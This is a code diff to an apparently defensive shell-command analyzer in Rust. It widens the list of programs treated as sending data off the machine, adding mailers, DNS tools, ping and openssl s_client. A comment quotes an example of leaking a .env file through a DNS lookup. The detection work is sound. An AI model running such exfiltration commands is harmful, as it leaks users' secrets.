@@ -82,6 +82,8 @@ pub(crate) struct Analyzed {
     pub problem: Option<String>,
     /// Its working directory.
     pub cwd: CwdState,
+    /// Variables of the line that hold a fresh `mktemp` result.
+    pub fresh_temps: Vec<String>,
 }
 
 impl Analyzed {
@@ -102,6 +104,7 @@ impl Analyzed {
             fork_bomb: raw.fork_bomb,
             problem: None,
             cwd: raw.cwd.clone(),
+            fresh_temps: raw.fresh_temps.clone(),
         }
     }
 
@@ -145,8 +148,14 @@ pub(crate) fn analyze(command: &str) -> Analysis {
     }
 }
 
-/// Whether a write/read target is a harmless device.
+/// Whether a write/read target is a harmless device: `/dev/null`, the standard streams, the
+/// random devices, and the process's own file descriptors by number (`/dev/fd/1`,
+/// `/proc/self/fd/2`; not `/dev/fd/../environ`).
 pub(crate) fn is_harmless_device(path: &str) -> bool {
+    let own_fd = ["/dev/fd/", "/proc/self/fd/", "/proc/thread-self/fd/"]
+        .iter()
+        .filter_map(|dir| path.strip_prefix(dir))
+        .any(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()));
     matches!(
         path,
         "/dev/null"
@@ -157,7 +166,7 @@ pub(crate) fn is_harmless_device(path: &str) -> bool {
             | "/dev/zero"
             | "/dev/random"
             | "/dev/urandom"
-    ) || path.starts_with("/dev/fd/")
+    ) || own_fd
 }
 
 pub(super) fn target(word: &Word, cwd: &CwdState) -> Option<Target> {
@@ -219,7 +228,7 @@ pub(super) fn interpret(raw: &RawCommand, depth: usize, out: &mut Vec<Analyzed>)
     };
     let mut inner: Vec<Analyzed> = Vec::new();
     interpret_program(&program, raw, &mut a, depth, &mut inner);
-    if NETWORK_SENDERS.contains(&program.as_str()) {
+    if is_network_sender(&program, a.args()) {
         // What reaches a network program's stdin or its file arguments leaves the machine.
         for e in &mut a.effects {
             if e.kind == EffectKind::Read {
@@ -257,9 +266,11 @@ pub(super) fn interpret(raw: &RawCommand, depth: usize, out: &mut Vec<Analyzed>)
     out.append(&mut inner);
 }
 
-/// Programs that send data to another machine.
+/// Programs that send data to another machine: uploaders, remote shells, forge and cloud
+/// clients, mailers, and name lookups (`dig $(base64 .env).example` leaks through DNS).
 pub(crate) const NETWORK_SENDERS: &[&str] = &[
     "gh",
+    "glab",
     "aws",
     "gsutil",
     "rclone",
@@ -277,11 +288,40 @@ pub(crate) const NETWORK_SENDERS: &[&str] = &[
     "http",
     "https",
     "xh",
+    "xhs",
     "aria2c",
     "lwp-request",
     "POST",
     "PUT",
+    "mail",
+    "mailx",
+    "s-nail",
+    "mutt",
+    "neomutt",
+    "sendmail",
+    "msmtp",
+    "ssmtp",
+    "swaks",
+    "dig",
+    "nslookup",
+    "host",
+    "drill",
+    "whois",
+    "ping",
+    "ping6",
+    "traceroute",
 ];
+
+/// Whether `program` (with `args`) sends data to another machine: the [`NETWORK_SENDERS`], and
+/// `openssl s_client` / `s_time` (a TLS client fed from stdin).
+fn is_network_sender(program: &str, args: &[Word]) -> bool {
+    NETWORK_SENDERS.contains(&program)
+        || (program == "openssl"
+            && args
+                .first()
+                .and_then(|w| w.value.as_deref())
+                .is_some_and(|v| matches!(v, "s_client" | "s_time")))
+}
 
 /// Whether a program as written is looked up on `PATH` (a bare name) or lives in a system
 /// directory (`/bin/ls`, `/usr/bin/git`), rather than being a file in the project.
@@ -344,6 +384,7 @@ pub(super) fn derived(raw: &RawCommand, argv: Vec<Word>, cwd: CwdState) -> RawCo
         untrusted_env: raw.untrusted_env,
         taint: raw.taint.clone(),
         upstream: raw.upstream.clone(),
+        fresh_temps: raw.fresh_temps.clone(),
     }
 }
 
